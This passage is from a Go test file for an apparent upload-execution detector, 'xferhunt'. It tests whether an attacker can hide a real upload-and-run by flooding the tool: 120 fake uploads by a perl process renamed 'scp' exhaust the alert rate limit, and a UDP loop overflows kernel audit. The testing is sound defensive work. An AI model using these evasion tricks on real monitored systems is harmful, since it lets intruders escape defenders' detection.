		bugs.add("one logged-in user's UDP connect loop hid %d of %d uploads made meanwhile by another user (kernel lost %d records): the session rules let any login outrun kernel audit", len(uploads)-alerted, len(uploads), st.Sources[0].Lost)
		bugs.report()
	}
}

// TestAttackChainSuppression: since 695ffaf upload-exec obeys max_signals
// (100 per 5-minute interval of event time), counted as held back. The
// attacker decides what is an upload (a process named scp), so 120 fake
// uploads made executable fill the interval, and the victim's real upload,
// made executable and run right after, raises nothing.
func TestAttackChainSuppression(t *testing.T) {
	const port = 22275
	const fromA, fromB = "127.0.0.56", "127.0.0.57"
	r := newChainRig(t, port, "xfatk-sv", "xfatk-sa", "xferhunt-attack-suppress-")
	victim, attacker, dir, ops, fake, fakeDir, x := r.victim, r.attacker, r.dir, r.ops, r.fake, r.fakeDir, r.x
	cp := r.perlAsSCP(t)
	real := filepath.Join(dir, "real")
	src := writePayload(t, "#!/bin/sh\necho ran > $0.ran\n")
	batch := filepath.Join(t.TempDir(), "batch")
	if err := os.WriteFile(batch, []byte(fmt.Sprintf("put %s %s\n", src, real)), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := sftpBatch(victim, port, fromA, batch); err != nil {
		t.Fatal(err)
	}
	out, err := sshRun(attacker, port, fromB, fmt.Sprintf("%s %s %s 120 120 0", cp, fake, fakeDir), 120*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("attacker (perl named scp): %s", strings.TrimSpace(out))
	cmd := fmt.Sprintf("cd %s && OP=chmod A=real python3 %s && ./real", dir, ops)
	if out, err := sshRun(victim, port, fromA, cmd, 30*time.Second); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	if _, err := os.Stat(real + ".ran"); err != nil {
		t.Fatalf("the real upload did not run: %v", err)
	}
	time.Sleep(3 * time.Second)
	x.stop(30 * time.Second)
	var got []string
	fakes := 0
	for _, a := range chainAlerts(x) {
		switch p := a.Doc.Str("xferhunt.chain.upload.path"); {
		case p == real:
			got = append(got, a.Doc.Str("xferhunt.chain.trigger"))
		case strings.HasPrefix(p, fakeDir):
			fakes++
		}
	}
	status := x.lastStatus()
	t.Logf("chain alerts on fake uploads: %d; on the real upload: %v; %s", fakes, got, status)
	if len(got) < 2 {
		bugs := &attackBugs{t: t}
		bugs.add("120 fake uploads (a perl named scp) made executable used up upload-exec's max_signals (100 per 5 min): the real upload's chmod and run raised %v, only counted in %q", got, status)
		bugs.report()
	}
}

// slowAttack keeps the host-flooding attacks (each minutes long, and each
// makes the kernel drop records host-wide while it runs) out of the
// default run, CI's included; XFERHUNT_ATTACK_SLOW=1 runs them.
func slowAttack(t *testing.T) {
	t.Helper()
	if os.Getenv("XFERHUNT_ATTACK_SLOW") != "1" {
		t.Skip("a host-flooding attack (minutes long, the kernel drops records host-wide meanwhile): XFERHUNT_ATTACK_SLOW=1 runs it")
	}
}

// sameFS reports whether two paths are on one file system (st_dev).
func sameFS(t *testing.T, a, b string) bool {
	t.Helper()
	var sa, sb syscall.Stat_t
	if err := syscall.Stat(a, &sa); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Stat(b, &sb); err != nil {
		t.Fatal(err)
	}
	return sa.Dev == sb.Dev
}
